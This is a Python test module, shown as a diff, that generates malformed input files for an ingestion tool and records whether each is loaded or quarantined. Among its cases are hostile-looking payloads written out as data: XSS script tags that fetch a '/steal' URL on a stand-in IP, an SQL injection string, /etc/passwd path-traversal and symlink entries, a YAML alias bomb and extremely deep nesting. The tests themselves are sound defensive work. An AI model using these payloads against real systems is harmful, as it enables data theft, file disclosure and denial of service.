@@ -1,0 +1,396 @@
+"""A corpus of bad input, generated at test time: each kind is a few files written into a sources folder.
+
+Large or binary files are built here, never committed. Each case says what dyad must do with it: load it
+(perhaps repaired) or quarantine it with a reason that names the problem. `docs/bad-input.md` is the
+table of these kinds; keep the two together.
+"""
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import random
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[2]
+SEED_TEXT = (ROOT / "sources" / "documents" / "000_71d1eb8421b35ad3.txt").read_text(encoding="utf-8")
+GOOD_DOCUMENT = "documents/zz_good.txt"  # sorts last, so a crash on an earlier bad file would hide it
+SENTENCE = "Baku, 12 June 2023 (TDI): Azerbaijan and Belarus signed an agreement on trade in Baku on Monday."
+CYRILLIC = "Москва, 12 июня 2023 года. Азербайджан и Беларусь подписали соглашение о торговле."
+LATIN1 = "Genève, 12 June 2023. Switzerland and France signed an agreement in Genève on São Tomé aid."
+INJECTION = "'); drop table dim_document; --"
+
+Content = bytes | Callable[[Path], None]
+
+
+@dataclass(frozen=True)
+class DocumentCase:
+    """Files to write under the sources folder and what must become of the first one."""
+
+    kind: str
+    files: dict[str, Content]
+    outcome: str  # "loaded" | "quarantined" | "ignored"
+    reason: str = ""  # text a quarantine reason must contain (case-insensitive); for "loaded", a side note
+    text_has: tuple[str, ...] = ()  # text the loaded document must contain
+    text_lacks: tuple[str, ...] = ()  # text the loaded document must not contain
+    check: dict[str, object] = field(default_factory=dict)  # DocumentRaw column -> expected value
+    what_dyad_does: str = ""
+
+    @property
+    def relpath(self) -> str:
+        return next(iter(self.files))
+
+
+def write_sources(root: Path, files: dict[str, Content], good: bool = True) -> Path:
+    """Write the files (bytes, or a callable that writes at the path) and a good document beside them."""
+    for rel, content in files.items():
+        path = root / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if callable(content):
+            content(path)
+        else:
+            path.write_bytes(content)
+    if good:
+        (root / GOOD_DOCUMENT).parent.mkdir(parents=True, exist_ok=True)
+        (root / GOOD_DOCUMENT).write_text(SEED_TEXT, encoding="utf-8")
+    return root
+
+
+def _enormous(path: Path, megabytes: int = 50) -> None:
+    block = (SENTENCE + "\n") * (2**20 // (len(SENTENCE) + 1))
+    with path.open("w", encoding="utf-8") as handle:
+        for _ in range(megabytes):
+            handle.write(block)
+
+
+def _symlink(target: str) -> Callable[[Path], None]:
+    def make(path: Path) -> None:
+        os.symlink(target, path)
+    return make
+
+
+def _symlink_loop(path: Path) -> None:
+    partner = path.with_name("loop_b.txt")
+    os.symlink(partner, path)
+    os.symlink(path, partner)
+
+
+def _manifest(*entries: dict) -> bytes:
+    """A sources.toml with the given [[source]] entries."""
+    lines = []
+    for entry in entries:
+        lines.append("[[source]]")
+        lines += [f"{key} = {json.dumps(value)}" for key, value in entry.items()]
+    return ("\n".join(lines) + "\n").encode("utf-8")
+
+
+def _html(body: str, head: str = "") -> bytes:
+    return f"<!doctype html><html><head><title>Talks</title>{head}</head><body>{body}</body></html>".encode()
+
+
+RANDOM_BYTES = random.Random(5).randbytes(4096)
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + RANDOM_BYTES[:512]
+SCRIPTS = (
+    "<script>document.write('INJECTED'); fetch('http://198.51.100.7/steal')</script>"
+    "<script src='http://198.51.100.7/x.js'></script><style>p{color:red}</style>"
+    "<img src='http://198.51.100.7/pixel.gif' onerror=\"alert('XSS')\">"
+    "<iframe src='http://198.51.100.7/frame'></iframe><link rel='stylesheet' href='http://198.51.100.7/s.css'>"
+)
+
+DOCUMENT_CASES: list[DocumentCase] = [
+    DocumentCase("empty file", {"documents/empty.txt": b""}, "quarantined", "empty file",
+                 what_dyad_does="quarantined: 'empty file'"),
+    DocumentCase("only whitespace", {"documents/blank.md": b" \n\t\r\n   \n"}, "quarantined", "only whitespace",
+                 what_dyad_does="quarantined: 'empty file: only whitespace'"),
+    DocumentCase("binary data with a .txt name (PNG)", {"documents/picture.txt": PNG}, "quarantined",
+                 "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
+    DocumentCase("random bytes with an .html name", {"documents/noise.html": RANDOM_BYTES}, "quarantined",
+                 "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
+    DocumentCase("a PDF in the documents folder", {"documents/report.pdf": b"%PDF-1.4\n1 0 obj\x00\x01\x02stream"
+                                                   + RANDOM_BYTES[:256]}, "quarantined", "binary content",
+                 what_dyad_does="quarantined: 'binary content: not text' (dyad reads txt, md and html)"),
+    DocumentCase("one NUL byte inside text", {"documents/nul.txt": SENTENCE.encode() + b"\x00" + SENTENCE.encode()},
+                 "quarantined", "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
+    DocumentCase("control characters instead of text", {"documents/control.txt": bytes(range(1, 9)) * 40 + b"ok"},
+                 "quarantined", "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
+    DocumentCase("truncated file cut inside a UTF-8 character",
+                 {"documents/cut.txt": (SENTENCE + " Москва").encode()[:-1]}, "loaded",
+                 text_has=("signed an agreement", "Моск"), check={"encoding": "utf-8"},
+                 what_dyad_does="loaded as UTF-8 without the cut character (not re-read as latin-1 mojibake)"),
+    DocumentCase("truncated HTML cut inside a tag",
+                 {"documents/cut.html": _html(f"<article><p>{SENTENCE}</p><p>The ministers met")[:-30] + b"<di"},
+                 "loaded", text_has=("signed an agreement",),
+                 what_dyad_does="loaded: the parser closes what the file left open"),
+    DocumentCase("UTF-8 byte-order mark", {"documents/bom.txt": b"\xef\xbb\xbf" + SENTENCE.encode()}, "loaded",
+                 check={"encoding": "utf-8-sig"}, text_has=("Baku",),
+                 what_dyad_does="loaded; the BOM is dropped so offsets start at the first letter"),
+    DocumentCase("UTF-16 with a byte-order mark", {"documents/utf16.txt": SENTENCE.encode("utf-16")}, "loaded",
+                 check={"encoding": "utf-16"}, text_has=("signed an agreement",), what_dyad_does="loaded"),
+    DocumentCase("UTF-16 without a byte-order mark", {"documents/utf16le.txt": SENTENCE.encode("utf-16-le")},
+                 "loaded", check={"encoding": "utf-16-le"}, text_has=("signed an agreement",),
+                 what_dyad_does="loaded: the alternating NUL bytes give the byte order away"),
+    DocumentCase("cp1251 (Windows Cyrillic) text", {"documents/cyrillic.txt": CYRILLIC.encode("cp1251")}, "loaded",
+                 check={"encoding": "cp1251"}, text_has=("Азербайджан и Беларусь",),
+                 what_dyad_does="loaded: decoded as cp1251 when the high bytes come in Cyrillic runs"),
+    DocumentCase("latin-1 text", {"documents/latin1.txt": LATIN1.encode("latin-1")}, "loaded",
+                 check={"encoding": "latin-1"}, text_has=("Genève", "São Tomé"), what_dyad_does="loaded"),
+    DocumentCase("cp1252 curly quotes and dashes", {"documents/cp1252.txt": "“Talks” – Paris’ view".encode("cp1252")},
+                 "loaded", check={"encoding": "cp1252"}, text_has=("“Talks” – Paris’ view",),
+                 what_dyad_does="loaded"),
+    DocumentCase("HTML declaring windows-1251", {"documents/declared.html": _html(
+        f"<article><p>{CYRILLIC}</p></article>", "<meta charset='windows-1251'>").decode().encode("cp1251")},
+                 "loaded", text_has=("Азербайджан",), check={"encoding": "cp1251"},
+                 what_dyad_does="loaded with the charset the page declares"),
+    DocumentCase("mixed line endings (CRLF, CR, LF)",
+                 {"documents/endings.txt": b"Talks in Baku\r\n\r\n" + SENTENCE.encode() + b"\rSecond line.\nThird.\r\n"},
+                 "loaded", text_lacks=("\r",), text_has=("Monday.\nSecond line.\nThird.",),
+                 what_dyad_does="loaded; every line ending becomes \\n before offsets are taken"),
+    DocumentCase("a document with no date anywhere",
+                 {"documents/undated.txt": b"Azerbaijan and Belarus signed an agreement on trade."}, "loaded",
+                 check={"published_date": None, "published_source": None},
+                 what_dyad_does="loaded with no publication date; relative dates in it stay unresolved"),
+    DocumentCase("a future publication date in the dateline",
+                 {"documents/future.txt": SENTENCE.replace("2023", "2099").encode()}, "quarantined",
+                 "'published_date': '2099-06-12' is in the future",
+                 what_dyad_does="quarantined: \"column 'published_date': '2099-06-12' is in the future\""),
+    DocumentCase("a future publication date in the manifest",
+                 {"documents/future_manifest.txt": SENTENCE.replace(", 12 June 2023", "").encode(),
+                  "sources.toml": _manifest({"path": "documents/future_manifest.txt", "published": "2101-01-01"})},
+                 "quarantined", "is in the future", what_dyad_does="quarantined: the date is in the future"),
+    DocumentCase("an enormous document (50 MB)", {"documents/enormous.txt": _enormous}, "quarantined",
+                 "too large: 50.0 MB is over the 10 MB limit",
+                 what_dyad_does="quarantined before it is read: 'too large: 50.0 MB is over the 10 MB limit'"),
+    DocumentCase("deeply nested HTML (100,000 levels)", {"documents/deep.html": _html(
+        "<article>" + "<div>" * 100_000 + f"<p>{SENTENCE}</p>" + "</div>" * 100_000 + "</article>")},
+                 "quarantined", "nested 100003 elements deep",
+                 what_dyad_does="quarantined: 'HTML nested 100003 elements deep (more than 1000)'"),
+    DocumentCase("nested HTML within the limit (800 levels)", {"documents/nested.html": _html(
+        "<article>" + "<div>" * 800 + f"<p>{SENTENCE}</p>" + "</div>" * 800 + "</article>")},
+                 "loaded", text_has=("signed an agreement",),
+                 what_dyad_does="loaded (the text walk is iterative: no recursion limit)"),
+    DocumentCase("script-laden HTML", {"documents/scripts.html": _html(
+        f"{SCRIPTS}<article>{SCRIPTS}<p>{SENTENCE}</p><script>alert('XSS')</script></article>")}, "loaded",
+                 text_has=("signed an agreement",), text_lacks=("INJECTED", "alert", "XSS", "198.51.100.7", "color"),
+                 what_dyad_does="loaded: scripts, styles, frames and images dropped unrun; nothing fetched"),
+    DocumentCase("HTML that is only scripts", {"documents/only_scripts.html": _html(SCRIPTS * 3)}, "quarantined",
+                 "no text left after reading the html markup",
+                 what_dyad_does="quarantined: 'no text left after reading the html markup'"),
+    DocumentCase("deeply nested JSON-LD in HTML", {"documents/jsonld.html": _html(
+        f"<article><p>{SENTENCE}</p></article>",
+        "<script type='application/ld+json'>" + "[" * 50_000 + "]" * 50_000 + "</script>")},
+                 "loaded", text_has=("signed an agreement",),
+                 what_dyad_does="loaded: JSON-LD that cannot be parsed gives no date, the article stays"),
+    DocumentCase("Markdown with broken front matter", {"documents/broken.md": (
+        "---\ntitle: [unclosed\ndate: : :\n---\n" + SENTENCE).encode()}, "loaded", text_has=("signed an agreement",),
+                 what_dyad_does="loaded: the body is kept, the broken metadata dropped"),
+    DocumentCase("YAML alias bomb in front matter", {"documents/bomb.md": (
+        "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
+        "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
+        "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ntitle: *h\noutlet: *h\n---\n"
+        + SENTENCE).encode()}, "loaded", check={"title": None, "outlet": "TDI"}, text_has=("signed an agreement",),
+                 what_dyad_does="loaded: a title or outlet that is a list is no title (never expanded)"),
+    DocumentCase("SQL in the text", {"documents/injection.txt": f"{SENTENCE}\n\nThe minister said {INJECTION}"
+                                     .encode()}, "loaded", text_has=(INJECTION,),
+                 what_dyad_does="loaded as text: values go to DuckDB as Arrow frames, never pasted into SQL"),
+    DocumentCase("file name with spaces, quotes and non-ASCII",
+                 {"documents/Talks in Baku – “Ъ” 'x'.txt": SENTENCE.encode()}, "loaded", text_has=("Baku",),
+                 what_dyad_does="loaded; the name is data, never part of a statement"),
+    DocumentCase("a manifest entry for a missing file", {
+        "sources.toml": _manifest({"path": "documents/missing.txt", "kind": "document"})}, "quarantined",
+                 "manifest lists 'documents/missing.txt' but no such file exists",
+                 what_dyad_does="quarantined (source sources.toml, row documents/missing.txt)"),
+    DocumentCase("a manifest path that leaves the folder (../../etc/passwd)", {
+        "sources.toml": _manifest({"path": "../../etc/passwd", "kind": "document"})}, "quarantined",
+                 "manifest path '../../etc/passwd' leaves the sources folder",
+                 what_dyad_does="quarantined; the file is never opened"),
+    DocumentCase("a manifest path through the folder and back (documents/../../x)", {
+        "sources.toml": _manifest({"path": "documents/../../outside.txt"})}, "quarantined",
+                 "leaves the sources folder", what_dyad_does="quarantined; the file is never opened"),
+    DocumentCase("an absolute manifest path", {"sources.toml": _manifest({"path": "/etc/passwd"})}, "quarantined",
+                 "manifest path '/etc/passwd' leaves the sources folder",
+                 what_dyad_does="quarantined; the file is never opened"),
+    DocumentCase("a symlink out of the sources folder", {"documents/passwd.txt": _symlink("/etc/passwd")},
+                 "quarantined", "symlink leaves the sources folder",
+                 what_dyad_does="quarantined; the target is never read"),
+    DocumentCase("a symlinked folder out of the sources folder", {"documents/etc": _symlink("/etc")},
+                 "quarantined", "symlink leaves the sources folder",
+                 what_dyad_does="quarantined; nothing under it is walked"),
+    DocumentCase("a symlink loop", {"documents/loop_a.txt": _symlink_loop}, "quarantined", "symlink loop",
+                 what_dyad_does="quarantined: 'symlink loop: the link points back at itself'"),
+    DocumentCase("a dangling symlink", {"documents/dangling.txt": _symlink("nowhere.txt")}, "quarantined",
+                 "cannot read file: No such file or directory", what_dyad_does="quarantined"),
+    DocumentCase("a manifest entry without a path", {"sources.toml": _manifest({"kind": "document"})},
+                 "quarantined", "manifest entry has no 'path'", what_dyad_does="quarantined"),
+    DocumentCase("the same file twice in the manifest", {
+        "documents/twice.txt": SENTENCE.encode(),
+        "sources.toml": _manifest({"path": "documents/twice.txt", "published": "2023-06-12"},
+                                  {"path": "documents/twice.txt", "published": "2020-01-01"})},
+                 "loaded", "manifest lists 'documents/twice.txt' again: the first entry is used",
+                 check={"published_date": "2023-06-12"},
+                 what_dyad_does="loaded with the first entry; the second is quarantined ('lists ... again')"),
+    DocumentCase("a hidden file (.DS_Store)", {"documents/.DS_Store": b"\x00\x00\x00\x01Bud1" + RANDOM_BYTES[:64]},
+                 "ignored", what_dyad_does="not a source: names starting with '.' are skipped"),
+]
+
+PUBLISHED_HEADER = ("period_start,period_end,measure,exporter_iso3,importer_iso3,value_usd,qualifier,reported_by,"
+                    "speaker,source_url,note\n")
+PUBLISHED_ROW = "2021-01,2021-12,turnover,AZE,BLR,424400000,exact,AZE,Statistics office,https://example.org/a,\n"
+_V1 = (ROOT / "tests" / "fixtures" / "tables" / "comtrade" / "aze_blr_v1.csv").read_text(encoding="utf-8")
+V1_HEADER, V1_ROW = _V1.splitlines()[0], _V1.splitlines()[1]  # AZE -> BLR exports 2022, TOTAL, 1000 USD
+V1_VALUES = ",1000,1000,0,True"
+V1_JSON_RECORD = json.loads((ROOT / "tests" / "fixtures" / "tables" / "comtrade" / "aze_blr_v1.json")
+                            .read_text(encoding="utf-8"))["data"][0]
+GOOD_TABLE = "tables/zz_good_reported.csv"
+GOOD_TABLE_BYTES = (PUBLISHED_HEADER + PUBLISHED_ROW.replace("2021-01,2021-12", "2019-01,2019-12")).encode()
+
+
+def published(*rows: str) -> bytes:
+    return (PUBLISHED_HEADER + "".join(rows)).encode("utf-8")
+
+
+def v1(*rows: str) -> bytes:
+    return (V1_HEADER + "\n" + "\n".join(rows) + "\n").encode("utf-8")
+
+
+def v1_value(value: str) -> str:
+    return V1_ROW.replace(V1_VALUES, f",{value},{value},0,True")
+
+
+@dataclass(frozen=True)
+class TableCase:
+    """One bad statistics file and what ingest_tables must make of it."""
+
+    kind: str
+    relpath: str
+    content: bytes
+    reason: str = ""  # text one quarantine row's reason must contain (case-insensitive); "" for none
+    row_ref: str = ""  # the row_ref of that quarantine row, when the problem is one row
+    loaded: int | None = None  # rows that must load
+    xfail: str = ""  # why dyad does not do this yet (strict: the test fails once it does)
+    what_dyad_does: str = ""
+
+
+TABLE_CASES: list[TableCase] = [
+    TableCase("empty table file", "tables/empty.csv", b"", "empty", "file", 0,
+              xfail="ingest_tables says 'not a table layout dyad reads', not that the file is empty"),
+    TableCase("table file of only whitespace", "tables/blank.csv", b"  \n\n \n", "empty", "file", 0,
+              xfail="ingest_tables says 'not a table layout dyad reads', not that the file is empty"),
+    TableCase("binary data with a .csv name", "tables/noise.csv", RANDOM_BYTES, "binary", "file", 0,
+              xfail="ingest_tables says 'not a table layout dyad reads', not that the file is binary"),
+    TableCase("a spreadsheet (.xlsx)", "tables/sheet.xlsx", b"PK\x03\x04" + RANDOM_BYTES[:200],
+              "not a table layout dyad reads", "file", 0,
+              what_dyad_does="quarantined: 'not a table layout dyad reads (...)'"),
+    TableCase("CSV header and no rows", "tables/header_only.csv", published(), "", "", 0,
+              what_dyad_does="read: 0 rows in, nothing quarantined"),
+    TableCase("CSV with a missing column (value_usd)", "tables/missing_column.csv",
+              published().replace(b",value_usd", b"") + PUBLISHED_ROW.replace(",424400000", "").encode(),
+              "value_usd", "file", 0,
+              xfail="ingest_tables says 'not a table layout dyad reads' without naming the missing column"),
+    TableCase("CSV with extra columns", "tables/extra_columns.csv",
+              (PUBLISHED_HEADER.strip() + ",extra\n" + PUBLISHED_ROW.strip() + ",surplus\n").encode(), "", "", 1,
+              what_dyad_does="loaded; the extra column is ignored"),
+    TableCase("CSV with shifted quoting (an unclosed quote)", "tables/shifted_quote.csv",
+              published(PUBLISHED_ROW.replace(",424400000", ',"424400000'),
+                        PUBLISHED_ROW.replace("2021-01,2021-12", "2020-01,2020-12")),
+              "quote", "line 2", 1,
+              xfail="the whole file is quarantined with Polars' parser message; the good line 3 is not loaded"),
+    TableCase("CSV with its header repeated inside", "tables/duplicate_header.csv",
+              published(PUBLISHED_ROW, PUBLISHED_HEADER, PUBLISHED_ROW.replace("2021", "2020")),
+              "period is not YYYY-MM", "line 3", 2, what_dyad_does="the repeated header line is quarantined"),
+    TableCase("CSV with a duplicate column name", "tables/duplicate_column.csv",
+              (PUBLISHED_HEADER.strip() + ",value_usd\n" + PUBLISHED_ROW.strip() + ",5\n").encode(),
+              "value_usd", "file", 0,
+              xfail="two value_usd columns load silently from the first one; the file should be refused"),
+    TableCase("CSV with duplicate rows (published figures)", "tables/duplicate_rows.csv",
+              published(PUBLISHED_ROW, PUBLISHED_ROW), "same", "line 2", 1,
+              xfail="published figures load a repeated row twice (Comtrade rows are deduplicated)"),
+    TableCase("a negative value (published)", "tables/negative.csv",
+              published(PUBLISHED_ROW.replace("424400000", "-5")), "value_usd", "line 2", 0,
+              what_dyad_does="quarantined: 'failed value_usd greater_than_or_equal_to(0) (value -5.0)'"),
+    TableCase("an absurd value (published, 1e30 USD)", "tables/absurd.csv",
+              published(PUBLISHED_ROW.replace("424400000", "1e30")), "value_usd", "line 2", 0,
+              xfail="no upper bound on value_usd: 1e30 USD (more than all trade ever) loads"),
+    TableCase("a thousands separator ('1,234.5', published)", "tables/thousands.csv",
+              published(PUBLISHED_ROW.replace("424400000", '"1,234.5"')), "", "", 1,
+              what_dyad_does="loaded as 1234.5 (published figures strip separators)"),
+    TableCase("'n/a' as a number (published)", "tables/not_a_number.csv",
+              published(PUBLISHED_ROW.replace("424400000", "n/a")), "value_usd is not a number", "line 2", 0,
+              what_dyad_does="quarantined: 'value_usd is not a number'"),
+    TableCase("an unknown country code (published)", "tables/unknown_country.csv",
+              published(PUBLISHED_ROW.replace("BLR", "QQQ", 1)), "QQQ is not in dim_country", "line 2", 0,
+              what_dyad_does="quarantined: 'country AZE or QQQ is not in dim_country'"),
+    TableCase("a period that is not a period (published)", "tables/bad_period.csv",
+              published(PUBLISHED_ROW.replace("2021-01", "last year")), "period is not YYYY-MM", "line 2", 0,
+              what_dyad_does="quarantined: 'period is not YYYY-MM'"),
+    TableCase("a month 13 (published)", "tables/month13.csv", published(PUBLISHED_ROW.replace("2021-01", "2021-13")),
+              "period is not YYYY-MM", "line 2", 0, what_dyad_does="quarantined: 'period is not YYYY-MM'"),
+    TableCase("a row with too few fields", "tables/short_row.csv",
+              published("2021-01,2021-12,turnover\n", PUBLISHED_ROW), "value_usd", "line 2", 1,
+              what_dyad_does="quarantined (missing fields are null): 'value_usd is not a number'"),
+    TableCase("a row with too many fields", "tables/long_row.csv",
+              published(PUBLISHED_ROW.strip() + ",a,b,c\n", PUBLISHED_ROW.replace("2021", "2020")), "fields",
+              "line 2", 1, xfail="the whole file is quarantined by Polars' 'found more fields' error; line 3 is lost"),
+    TableCase("CSV with a UTF-8 BOM", "tables/bom.csv", b"\xef\xbb\xbf" + published(PUBLISHED_ROW), "", "", 1,
+              what_dyad_does="loaded; the BOM is not part of the first column's name"),
+    TableCase("CSV in cp1251", "tables/cp1251.csv",
+              published(PUBLISHED_ROW.replace("Statistics office", "Министерство")).decode().encode("cp1251"),
+              "", "", 1, what_dyad_does="loaded"),
+    TableCase("CSV with mixed line endings", "tables/endings.csv",
+              PUBLISHED_HEADER.replace("\n", "\r\n").encode() + PUBLISHED_ROW.encode()
+              + PUBLISHED_ROW.replace("2021", "2020").replace("\n", "\r\n").encode(), "", "", 2,
+              what_dyad_does="loaded"),
+    TableCase("a truncated gzip file", "tables/cut.csv.gz",
+              gzip.compress(published(*[PUBLISHED_ROW] * 200), mtime=0)[:80], "gzip", "file", 0,
+              xfail="EOFError from gzip escapes ingest_tables and fails the whole run"),
+    TableCase("a .gz name on a file that is not gzipped", "tables/plain.csv.gz", published(PUBLISHED_ROW), "", "", 1,
+              what_dyad_does="loaded: the format is told from the bytes, not the name"),
+    TableCase("a corrupt Parquet file", "tables/corrupt.parquet", b"PAR1" + RANDOM_BYTES[:100], "parquet", "file", 0,
+              xfail="pyarrow's ArrowInvalid escapes ingest_tables and fails the whole run"),
+    TableCase("malformed JSON", "tables/malformed.json", b'{"data": [{"typeCode": "C", ', "json", "file", 0,
+              xfail="ingest_tables says 'not a table layout dyad reads', not that the JSON is malformed"),
+    TableCase("a JSON response with 'error' set", "tables/rate_limited.json",
+              json.dumps({"error": "rate limit exceeded", "data": []}).encode(), "rate limit exceeded", "file", 0,
+              what_dyad_does="quarantined: 'the response holds an error and no data: rate limit exceeded'"),
+    TableCase("a JSON response with 'error' set and data null", "tables/error_null.json",
+              json.dumps({"error": "bad query", "data": None}).encode(), "bad query", "file", 0,
+              xfail="a response with data null is 'not a table layout'; its error text is not shown"),
+    TableCase("deeply nested JSON", "tables/nested.json", b"[" * 100_000 + b"]" * 100_000, "json", "file", 0,
+              xfail="RecursionError from json.load escapes ingest_tables and fails the whole run"),
+    TableCase("a negative value (Comtrade)", "tables/comtrade_negative.csv", v1(v1_value("-5")), "value_usd",
+              "line 2", 0, what_dyad_does="quarantined by the fact_trade audit: value_usd -5 below 0"),
+    TableCase("an absurd value (Comtrade, 1e300 USD)", "tables/comtrade_absurd.csv", v1(v1_value("1e300")),
+              "value_usd", "line 2", 0, xfail="no upper bound on value_usd: 1e300 USD loads"),
+    TableCase("a thousands separator ('1,234.5', Comtrade)", "tables/comtrade_thousands.csv",
+              v1(v1_value('"1,234.5"')), "trade value '1,234.5' is not a number", "line 2", 0,
+              what_dyad_does="quarantined: \"trade value '1,234.5' is not a number\""),
+    TableCase("'n/a' as a number (Comtrade)", "tables/comtrade_na.csv", v1(v1_value("n/a")),
+              "trade value 'n/a' is not a number", "line 2", 0,
+              what_dyad_does="quarantined: \"trade value 'n/a' is not a number\""),
+    TableCase("an unknown country code (Comtrade)", "tables/comtrade_unknown_country.csv",
+              v1(V1_ROW.replace(",31,,,X", ",777,,,X")), "reporter code 777 is not in the country code map",
+              "line 2", 0, what_dyad_does="quarantined: 'reporter code 777 is not in the country code map: not guessed'"),
+    TableCase("an unknown product code (Comtrade)", "tables/comtrade_unknown_product.csv",
+              v1(V1_ROW.replace(",TOTAL,", ",7777,")), "HS chapter 77 is not in the HS reference", "line 2", 0,
+              what_dyad_does="quarantined: 'HS chapter 77 is not in the HS reference'"),
+    TableCase("a period that is not a period (Comtrade month 13)", "tables/comtrade_month13.csv",
+              v1(V1_ROW.replace(",2022,52,2022,", ",2022,13,2022,")),
+              "period '202213' is not a year (YYYY) or a month (YYYYMM)", "line 2", 0,
+              what_dyad_does="quarantined: \"period '202213' is not a year (YYYY) or a month (YYYYMM)\""),
+    TableCase("duplicate rows (Comtrade)", "tables/comtrade_duplicates.csv", v1(V1_ROW, V1_ROW),
+              "a later row of the same file has the same reporter", "line 2", 1,
+              what_dyad_does="the earlier row is quarantined, the later one loads"),
+    TableCase("its header repeated inside (Comtrade)", "tables/comtrade_header_again.csv", v1(V1_ROW, V1_HEADER),
+              "is not a year", "line 3", 1, what_dyad_does="the repeated header line is quarantined"),
+    TableCase("a JSON record with wrong types (Comtrade)", "tables/comtrade_types.json",
+              json.dumps({"data": [{**V1_JSON_RECORD, "primaryValue": "lots", "refYear": [2022]}]}).encode(),
+              "", "record 1", 0, what_dyad_does="quarantined record 1 (its period is not a year)"),
+    TableCase("BACI rows with bad values", "tables/BACI_HS17_Y2021_V202401.csv",
+              b"t,i,j,k,v,q\n2021,31,112,270900,abc,1\n2021,31,112,280000,-3,1\n2021,31,112,290000,1.5,2\n",
+              "trade value 'abc' is not a number", "line 2", 1,
+              what_dyad_does="line 2 ('abc') and line 3 (negative) quarantined, line 4 loads"),
+    TableCase("SQL in a cell", "tables/injection.csv",
+              published(PUBLISHED_ROW.replace("Statistics office", INJECTION.replace(",", ""))), "", "", 1,
+              what_dyad_does="loaded as text: cells reach DuckDB as Arrow frames"),
+]
